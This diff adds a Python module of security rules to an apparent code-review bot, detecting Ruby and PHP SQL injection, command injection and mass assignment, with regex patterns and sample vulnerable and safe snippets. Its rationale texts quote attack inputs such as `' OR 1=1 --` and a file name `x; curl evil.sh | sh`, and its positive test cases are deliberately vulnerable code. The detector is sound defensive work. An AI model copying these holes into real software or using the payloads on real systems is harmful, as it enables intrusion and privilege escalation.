@@ -1,0 +1,546 @@
+"""Ruby and PHP SQL injection (`ruby-sql-injection`, `php-sql-injection`) and the
+cross-language `command-injection` and `mass-assignment` rules."""
+
+from __future__ import annotations
+
+import re
+
+from bot.models import Category, ChangedFile, FileKind, Severity
+from bot.rules.engine import Check, Rule, RuleCase
+from bot.rules.security_go import sql_call
+from bot.rules.security_js import (
+    Pattern,
+    PatternCheck,
+    call_arguments,
+    dynamic_part,
+    first_argument_dynamic,
+    is_string_literal,
+    short,
+)
+
+_CODE_KINDS = frozenset({FileKind.CODE, FileKind.ORM_SCHEMA})
+_RUBY = frozenset({"ruby"})
+_PHP = frozenset({"php"})
+_JS = frozenset({"javascript", "typescript"})
+_JVM = frozenset({"java", "kotlin"})
+
+# --- ruby-sql-injection / php-sql-injection -------------------------------------------------
+
+RUBY_SQL_ID = "ruby-sql-injection"
+_RUBY_ALWAYS_SQL = frozenset(
+    {
+        "where",
+        "rewhere",
+        "not",
+        "find_by_sql",
+        "count_by_sql",
+        "order",
+        "reorder",
+        "having",
+        "joins",
+        "group",
+        "pluck",
+        "select",
+        "from",
+        "lock",
+        "exec_query",
+        "select_all",
+        "select_one",
+        "select_value",
+        "select_values",
+        "select_rows",
+        "update_all",
+        "delete_all",
+        "exists?",
+        "find_by",
+    }
+)
+_RUBY_SQL = re.compile(
+    r"(?<![\w:])(?P<at>(?P<method>where|rewhere|not|find_by_sql|count_by_sql|order|reorder"
+    r"|having|joins|group|pluck|select|from|lock|execute|exec_query|select_all|select_one"
+    r"|select_value|select_values|select_rows|update_all|delete_all|exists\?|find_by))\("
+)
+PHP_SQL_ID = "php-sql-injection"
+_PHP_ALWAYS_SQL = frozenset(
+    {
+        "raw",
+        "statement",
+        "unprepared",
+        "whereRaw",
+        "orWhereRaw",
+        "havingRaw",
+        "orHavingRaw",
+        "orderByRaw",
+        "selectRaw",
+        "groupByRaw",
+        "fromRaw",
+        "mysqli_query",
+        "pg_query",
+        "mysqli_real_query",
+        "mysqli_multi_query",
+    }
+)
+_PHP_SQL = re.compile(
+    r"(?:(?:::|->)\s*(?P<method>raw|select|statement|insert|update|delete|unprepared|whereRaw"
+    r"|orWhereRaw|havingRaw|orHavingRaw|orderByRaw|selectRaw|groupByRaw|fromRaw|query|exec"
+    r"|prepare|multi_query|real_query)|(?<![\w>:$])(?P<fn>mysqli_query|mysqli_real_query"
+    r"|mysqli_multi_query|pg_query))\s*\("
+)
+
+
+def _php_sql(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
+    method = match.group("method") or match.group("fn")
+    return sql_call(_PHP_ALWAYS_SQL)(_Shim(match, method), text, file)
+
+
+class _Shim:
+    """A match whose `method` group is the PHP method or function name either way."""
+
+    def __init__(self, match: re.Match[str], method: str) -> None:
+        self._match, self._method = match, method
+
+    def group(self, name: str) -> str:
+        return self._method if name == "method" else self._match.group(name)
+
+    def start(self, *args: str) -> int:
+        return self._match.start(*args)
+
+    def end(self, *args: str) -> int:
+        return self._match.end(*args)
+
+
+_SQL_RATIONALE = (
+    "The value becomes part of the SQL text, so whoever controls it controls the query: "
+    "`' OR 1=1 --` returns every row, a UNION reads password hashes from another table, "
+    "and an `order` or raw fragment built from a sort parameter is a blind-injection "
+    "channel. A quote in an ordinary name also turns into a 500."
+)
+RUBY_SQL_RULE = Rule(
+    id=RUBY_SQL_ID,
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    title="ActiveRecord SQL fragment built by string interpolation",
+    rationale=_SQL_RATIONALE,
+    fix=(
+        'Bind values: `where("name = ?", name)`, `where(name: name)`, `find_by_sql(["… '
+        'WHERE id = ?", id])`, `sanitize_sql_array`; for `order`, use a hash '
+        "(`order(created_at: :desc)`) or pick the column from an allow-list."
+    ),
+    languages=("ruby",),
+    positive=(
+        RuleCase(
+            path="app/models/user.rb",
+            code=(
+                "class User < ApplicationRecord\n"
+                "  def self.search(q, sort)\n"
+                '    where("name LIKE \'%#{q}%\'").order("#{sort} DESC")\n'
+                '    find_by_sql("SELECT * FROM users WHERE id = " + q)\n'
+                "  end\n"
+                "end\n"
+            ),
+            lines=(3, 4),
+        ),
+    ),
+    negative=(
+        RuleCase(
+            path="app/models/user.rb",
+            code=(
+                "class User < ApplicationRecord\n"
+                "  def self.search(q)\n"
+                '    where("name LIKE ?", "%#{q}%").order(created_at: :desc)\n'
+                "    where(name: q).find_by_sql(['SELECT * FROM users WHERE id = ?', q])\n"
+                "    # where(\"name = '#{q}'\")\n"
+                "  end\n"
+                "end\n"
+            ),
+        ),
+    ),
+)
+PHP_SQL_RULE = Rule(
+    id=PHP_SQL_ID,
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    title="SQL built by interpolation or concatenation is passed to a query call",
+    rationale=_SQL_RATIONALE,
+    fix=(
+        "Bind values: `DB::select('… WHERE id = ?', [$id])`, `whereRaw('price > ?', "
+        "[$p])`, PDO `prepare` with `?`/`:name` and `execute([...])`, `mysqli` prepared "
+        "statements. Column names for `orderByRaw` come from an allow-list."
+    ),
+    languages=("php",),
+    positive=(
+        RuleCase(
+            path="app/Http/Controllers/UserController.php",
+            code=(
+                "<?php\n"
+                "class UserController {\n"
+                "    public function index($request) {\n"
+                "        $users = DB::select(\"SELECT * FROM users WHERE name = '$request->name'\");\n"
+                "        $q = User::whereRaw('age > ' . $request->input('age'))->get();\n"
+                "        $r = $pdo->query(\"SELECT * FROM t WHERE id = \" . $_GET['id']);\n"
+                '        return mysqli_query($conn, "DELETE FROM t WHERE id = {$id}");\n'
+                "    }\n"
+                "}\n"
+            ),
+            lines=(4, 5, 6, 7),
+        ),
+    ),
+    negative=(
+        RuleCase(
+            path="app/Http/Controllers/UserController.php",
+            code=(
+                "<?php\n"
+                "class UserController {\n"
+                "    public function index($request) {\n"
+                "        $users = DB::select('SELECT * FROM users WHERE name = ?', [$request->name]);\n"
+                "        $q = User::whereRaw('age > ?', [$request->input('age')])->get();\n"
+                "        $s = $pdo->prepare('SELECT * FROM t WHERE id = :id');\n"
+                "        return $cache->update('key' . $id);\n"
+                "    }\n"
+                "}\n"
+            ),
+        ),
+    ),
+)
+
+# --- command-injection ----------------------------------------------------------------------
+
+CMD_ID = "command-injection"
+_SHELLS = re.compile(r"^[\"'](?:/bin/|/usr/bin/)?(?:sh|bash|zsh|dash|ash|cmd(?:\.exe)?)[\"']$")
+
+
+def _shell_c(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
+    language = file.language or ""
+    args = call_arguments(text, match.end() - 1, language)
+    if args and not args[0].startswith(('"', "'")):
+        args = args[1:]  # exec.CommandContext(ctx, …)
+    if len(args) >= 3 and _SHELLS.match(args[0]) and args[1].strip("\"'") in {"-c", "/c"}:
+        if not is_string_literal(args[2], language):
+            return f"The shell runs `{short(args[2])}`, a string computed at run time."
+    return False
+
+
+def _node_exec(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
+    if "child_process" not in text:
+        return False
+    return first_argument_dynamic(match, text, file)
+
+
+def _ruby_shell(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
+    args = call_arguments(text, match.end() - 1, "ruby")
+    if len(args) != 1:  # several arguments: no shell is involved
+        return False
+    found = dynamic_part(args[0], "ruby")
+    return f"The shell command splices in `{short(found)}`." if found else False
+
+
+def _php_shell(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
+    args = call_arguments(text, match.end() - 1, "php")
+    if not args or is_string_literal(args[0], "php") or "escapeshellarg" in args[0]:
+        return False
+    if "$" not in args[0]:
+        return False
+    return f"The shell command comes from `{short(args[0])}`."
+
+
+CMD_PATTERNS = (
+    Pattern(
+        CMD_ID, frozenset({"go"}), re.compile(r"\bexec\.(?P<at>Command(?:Context)?)\s*\("), _shell_c
+    ),
+    Pattern(
+        CMD_ID,
+        _JS,
+        re.compile(
+            r"(?:(?<![\w$.])|\b(?:child_process|childProcess|cp)\.)"
+            r"(?P<at>exec|execSync)\s*\("
+        ),
+        _node_exec,
+    ),
+    Pattern(
+        CMD_ID,
+        _JVM,
+        re.compile(r"\bRuntime\.getRuntime\(\)\s*\.\s*(?P<at>exec)\s*\("),
+        first_argument_dynamic,
+    ),
+    Pattern(CMD_ID, _JVM, re.compile(r"(?P<at>ProcessBuilder)\s*\("), _shell_c),
+    Pattern(
+        CMD_ID,
+        _RUBY,
+        re.compile(r"(?<![\w.:])(?P<at>system|exec|spawn|IO\.popen|Open3\.\w+)\("),
+        _ruby_shell,
+    ),
+    Pattern(
+        CMD_ID,
+        _RUBY,
+        re.compile(r"(?P<at>`)[^`\n]*#\{[^`\n]*`|(?P<x>%x)[({\[][^\n]*#\{"),
+        lambda m, t, f: "The shell command is built by interpolation.",
+    ),
+    Pattern(
+        CMD_ID,
+        _PHP,
+        re.compile(
+            r"(?<![\w>:$])(?P<at>shell_exec|exec|system|passthru|popen|proc_open"
+            r"|pcntl_exec)\s*\("
+        ),
+        _php_shell,
+    ),
+)
+
+CMD_RULE = Rule(
+    id=CMD_ID,
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    title="A shell command is built from run-time values",
+    rationale=(
+        "The string goes to a shell, which treats `;`, `|`, `$( )` and backticks in it as "
+        "commands. A file name like `x; curl evil.sh | sh` sent to this endpoint runs "
+        "arbitrary programs as the service user: secrets in the environment are read, "
+        "the host joins a botnet, data is deleted."
+    ),
+    fix=(
+        "Run the program directly with an argument list and no shell: Go `exec.Command("
+        "\"convert\", in, out)`, Node `execFile('convert', [in, out])`/`spawn` without "
+        '`shell`, Java `new ProcessBuilder("convert", in, out)`, Ruby `system("convert", '
+        "in, out)`, PHP `escapeshellarg` on every value (or Symfony Process with an array)."
+    ),
+    languages=("go", "javascript", "typescript", "java", "kotlin", "ruby", "php"),
+    positive=(
+        RuleCase(
+            path="internal/media/convert.go",
+            code=(
+                "package media\n\n"
+                "func Convert(name string) error {\n"
+                '\treturn exec.Command("sh", "-c", "convert "+name+" out.png").Run()\n'
+                "}\n"
+            ),
+            lines=(4,),
+        ),
+        RuleCase(
+            path="server/convert.js",
+            code=(
+                "const { exec } = require('child_process');\n"
+                "function convert(name) {\n"
+                "  exec(`convert ${name} out.png`);\n"
+                "}\n"
+            ),
+            lines=(3,),
+        ),
+        RuleCase(
+            path="src/main/java/com/acme/Convert.java",
+            code=(
+                "class Convert {\n"
+                "  void run(String name) throws IOException {\n"
+                '    Runtime.getRuntime().exec("convert " + name + " out.png");\n'
+                "  }\n"
+                "}\n"
+            ),
+            lines=(3,),
+        ),
+        RuleCase(
+            path="app/services/convert.rb",
+            code=(
+                "class Convert\n"
+                "  def run(name)\n"
+                '    system("convert #{name} out.png")\n'
+                "    `rm -f #{name}`\n"
+                "  end\n"
+                "end\n"
+            ),
+            lines=(3, 4),
+        ),
+        RuleCase(
+            path="app/Services/Convert.php",
+            code="<?php\nfunction convert($name) {\n    return shell_exec('convert ' . $name);\n}\n",
+            lines=(3,),
+        ),
+    ),
+    negative=(
+        RuleCase(
+            path="internal/media/convert.go",
+            code=(
+                "package media\n\n"
+                "func Convert(name string) error {\n"
+                '\texec.Command("sh", "-c", "make clean").Run()\n'
+                '\treturn exec.Command("convert", name, "out.png").Run()\n'
+                "}\n"
+            ),
+        ),
+        RuleCase(
+            path="server/convert.js",
+            code=(
+                "const { execFile } = require('child_process');\n"
+                "execFile('convert', [name, 'out.png']);\n"
+                "const m = pattern.exec(`${name}`);\n"
+            ),
+        ),
+        RuleCase(
+            path="app/services/convert.rb",
+            code='system("convert", name, "out.png")\nsystem("make clean")\n',
+        ),
+        RuleCase(
+            path="app/Services/Convert.php",
+            code="<?php\nshell_exec('convert ' . escapeshellarg($name));\nexec('make clean');\n",
+        ),
+    ),
+)
+
+# --- mass-assignment ------------------------------------------------------------------------
+
+MASS_ID = "mass-assignment"
+_BODY = re.compile(r"^(?:\{\s*\.\.\.)?(?:req|request|ctx\.request)\.body\s*\}?$")
+_PHP_ALL = re.compile(
+    r"^(?:\$request->all\(\)|request\(\)->all\(\)|Input::all\(\)|\$_POST|\$_REQUEST)$"
+)
+
+
+def _js_mass(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
+    for arg in call_arguments(text, match.end() - 1, file.language or ""):
+        inner = re.sub(r"^\{\s*data\s*:\s*(.*?)\s*\}$", r"\1", arg, flags=re.S)
+        if _BODY.match(arg) or _BODY.match(inner):
+            return f"The whole request body goes into `{match.group('at') or match.group('cls')}`."
+    return False
+
+
+def _php_mass(match: re.Match[str], text: str, file: ChangedFile) -> str | bool:
+    for arg in call_arguments(text, match.end() - 1, "php"):
+        if _PHP_ALL.match(arg):
+            return f"Every request field goes into `{match.group('at')}`."
+    return False
+
+
+MASS_PATTERNS = (
+    Pattern(
+        MASS_ID,
+        _RUBY,
+        re.compile(r"\.(?P<at>permit!)"),
+        lambda m, t, f: "`permit!` lets every parameter through.",
+    ),
+    Pattern(
+        MASS_ID,
+        _JS,
+        re.compile(
+            r"(?:\.(?P<at>create|build|update|insertMany|insert|findOneAndUpdate"
+            r"|updateOne|updateMany|findByIdAndUpdate|upsert|bulkCreate|assign|set)"
+            r"|\bnew\s+(?=[A-Z])(?P<cls>\w+))\s*\("
+        ),
+        _js_mass,
+    ),
+    Pattern(
+        MASS_ID,
+        _PHP,
+        re.compile(
+            r"(?:->|::)(?P<at>create|update|fill|forceFill|forceCreate|updateOrCreate"
+            r"|firstOrCreate|insert)\s*\("
+        ),
+        _php_mass,
+    ),
+)
+
+MASS_RULE = Rule(
+    id=MASS_ID,
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    title="Every request field is written to the model (mass assignment)",
+    rationale=(
+        "Whatever fields the client sends are stored, not just the ones the form shows. "
+        'An attacker adds `"role": "admin"`, `"is_verified": true`, `"balance": '
+        "1000000` or another user's `owner_id` to an ordinary profile update and the "
+        "database takes it — privilege escalation with one request."
+    ),
+    fix=(
+        "Copy an explicit list of fields: Rails `params.require(:user).permit(:name, "
+        ":email)`, `const { name, email } = req.body` (or a validated DTO with "
+        "`whitelist: true`), Laravel `$request->validated()` or `$request->only([...])` "
+        "with `$fillable` set on the model."
+    ),
+    languages=("ruby", "javascript", "typescript", "php"),
+    positive=(
+        RuleCase(
+            path="app/controllers/users_controller.rb",
+            code=(
+                "class UsersController < ApplicationController\n"
+                "  def update\n"
+                "    @user.update(params.require(:user).permit!)\n"
+                "  end\n"
+                "end\n"
+            ),
+            lines=(3,),
+        ),
+        RuleCase(
+            path="server/routes/users.js",
+            code=(
+                "const express = require('express');\n"
+                "router.post('/users', async (req, res) => {\n"
+                "  const user = await User.create(req.body);\n"
+                "  const post = new Post(req.body);\n"
+                "  await prisma.user.update({ where: { id }, data: req.body });\n"
+                "  res.json(user);\n"
+                "});\n"
+            ),
+            lines=(3, 4),
+        ),
+        RuleCase(
+            path="app/Http/Controllers/UserController.php",
+            code="<?php\nfunction store($request) {\n    return User::create($request->all());\n}\n",
+            lines=(3,),
+        ),
+    ),
+    negative=(
+        RuleCase(
+            path="app/controllers/users_controller.rb",
+            code="@user.update(params.require(:user).permit(:name, :email))\n",
+        ),
+        RuleCase(
+            path="server/routes/users.ts",
+            code=(
+                "import express from 'express';\n"
+                "const { name, email } = req.body;\n"
+                "const user = await User.create({ name, email });\n"
+                "await User.update(req.body.name);\n"
+            ),
+        ),
+        RuleCase(
+            path="app/Http/Controllers/UserController.php",
+            code="<?php\nreturn User::create($request->validated());\n",
+        ),
+    ),
+)
+
+
+class RubySqlInjection(PatternCheck):
+    name = "security:ruby-sql-injection"
+    rules = (RUBY_SQL_RULE,)
+    languages = _RUBY
+    kinds = _CODE_KINDS
+    patterns = (Pattern(RUBY_SQL_ID, _RUBY, _RUBY_SQL, sql_call(_RUBY_ALWAYS_SQL, 1)),)
+    hint = re.compile(r"#\{|\+|%")
+
+
+class PhpSqlInjection(PatternCheck):
+    name = "security:php-sql-injection"
+    rules = (PHP_SQL_RULE,)
+    languages = _PHP
+    kinds = _CODE_KINDS
+    patterns = (Pattern(PHP_SQL_ID, _PHP, _PHP_SQL, _php_sql),)
+    hint = re.compile(r"\$|sprintf")
+
+
+class CommandInjection(PatternCheck):
+    name = "security:command-injection"
+    rules = (CMD_RULE,)
+    languages = frozenset(CMD_RULE.languages)
+    kinds = _CODE_KINDS
+    patterns = CMD_PATTERNS
+    hint = re.compile(r"exec|Command|system|spawn|popen|Open3|`|%x|passthru|ProcessBuilder")
+
+
+class MassAssignment(PatternCheck):
+    name = "security:mass-assignment"
+    rules = (MASS_RULE,)
+    languages = frozenset(MASS_RULE.languages)
+    kinds = _CODE_KINDS
+    patterns = MASS_PATTERNS
+    hint = re.compile(r"permit!|\.body|->all\(\)|Input::all|\$_POST|\$_REQUEST")
+
+
+CHECKS: list[Check] = [RubySqlInjection(), PhpSqlInjection(), CommandInjection(), MassAssignment()]
